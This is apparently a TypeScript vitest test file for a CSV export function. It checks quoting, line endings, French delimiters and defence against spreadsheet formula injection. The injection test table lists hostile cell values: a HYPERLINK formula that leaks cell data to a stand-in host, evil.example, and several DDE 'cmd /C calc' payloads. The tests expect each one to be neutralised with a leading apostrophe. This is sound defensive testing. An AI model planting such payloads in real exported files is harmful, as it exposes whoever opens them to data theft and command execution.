/** The console's one CSV writer, read back as a spreadsheet would read the file. */
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { toCsv } from './csv';

/** The file's cells, as a CSV reader sees them (BOM and final line end dropped). */
function cells(csv: string, language: 'fr' | 'en' = 'en'): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  return Papa.parse<string[]>(csv.slice(1, -2), { newline: '\r\n', delimiter: language === 'fr' ? ';' : ',' }).data;
}

/** A spreadsheet runs a cell as a formula when its first visible character is one of these. */
const runsAsFormula = (cell: string) => /^[\s\p{Cc}]*[=+\-@＝＋－＠]/u.test(cell) || /^[\t\r\n]/.test(cell);

describe('toCsv', () => {
  it('keeps commas, quotes, line breaks and accents in their cells, rows ending in CRLF', () => {
    const csv = toCsv(['Nom', 'Statut'], [['Facture, "mars"\nclient é', 'Traitée'], ['b\r\nc', '日本語 😀']], 'en');
    expect(cells(csv)).toEqual([
      ['Nom', 'Statut'],
      ['Facture, "mars"\nclient é', 'Traitée'],
      ['b\r\nc', '日本語 😀'],
    ]);
    expect(csv).toContain('"Facture, ""mars""\nclient é",Traitée\r\n');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"clic")'],
    ['=cmd|\' /C calc\'!A0'],
    ['+1+cmd|\' /C calc\'!A0'],
    ['-2+3+cmd|\' /C calc\'!A0'],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['   =1+1'],
    ['\u00a0=1+1'],
    ['\u0007=1+1'],
    ['＝1+1'],
    ['－2+3'],
    ['-3'],
    ['+33 1 23 45 67 89'],
  ])('writes %j as text a spreadsheet will not run, in either language', (hostile) => {
    for (const language of ['fr', 'en'] as const) {
      const [header, row] = cells(toCsv([hostile, 'fine'], [[hostile, 'ok']], language), language);
      expect(header![1]).toBe('fine');
      for (const cell of [header![0]!, row![0]!]) {
        expect(cell).toBe(`'${hostile}`);
        expect(runsAsFormula(cell)).toBe(false);
      }
      expect(row![1]).toBe('ok');
    }
  });

  it('leaves ordinary text alone, including a sign inside the text', () => {
    expect(cells(toCsv(['a'], [['Résiliation - contrat'], ['a=b'], ['x@example.com'], ['1-2']], 'en'))).toEqual([
      ['a'],
      ['Résiliation - contrat'],
      ['a=b'],
      ['x@example.com'],
      ['1-2'],
    ]);
  });

  it('writes numbers raw, negative ones with their sign; non-finite ones and empty values as empty cells', () => {
    const csv = toCsv(['n'], [[-3.5], [0], [42], [1e-7], [-0.25], [Number.NaN], [Number.NEGATIVE_INFINITY], [null], [undefined]], 'en');
    expect(csv).toBe('\uFEFFn\r\n-3.5\r\n0\r\n42\r\n1e-7\r\n-0.25\r\n\r\n\r\n\r\n\r\n');
  });

  it('writes for a French spreadsheet: semicolons between cells, decimal commas, numbers still computed on', () => {
    const csv = toCsv(['Catégorie', 'Part', 'Écart'], [['Résiliation; contrat, "pro"', 0.75, -3.5], ['Devis', 1e-7, -1.25e-7], ['Vide', null, 42]], 'fr');
    expect(csv).toBe('\uFEFFCatégorie;Part;Écart\r\n"Résiliation; contrat, ""pro""";0,75;-3,5\r\nDevis;1e-7;-1,25e-7\r\nVide;;42\r\n');
    expect(cells(csv, 'fr')[1]).toEqual(['Résiliation; contrat, "pro"', '0,75', '-3,5']);
  });
});
